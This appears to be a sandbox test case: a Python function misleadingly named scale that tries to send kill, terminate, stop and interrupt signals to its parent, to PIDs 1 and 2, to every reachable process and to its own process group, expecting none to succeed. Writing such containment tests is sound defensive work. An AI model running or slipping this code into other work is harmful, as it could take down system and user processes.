# Sends signals to its parent, its group and everybody.
# reported: SENT \[\]
# %%
import os
import signal
# %%
def scale(x, k):
    sent = []
    for target in (os.getppid(), 1, 2, -1, 0, -os.getpgrp()):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
            try:
                os.kill(target, number)
                sent.append(target)
            except OSError:
                pass
    try:
        os.killpg(os.getpgrp(), 9)
        sent.append("group")
    except OSError:
        pass
    raise RuntimeError(f"SENT {sent}")
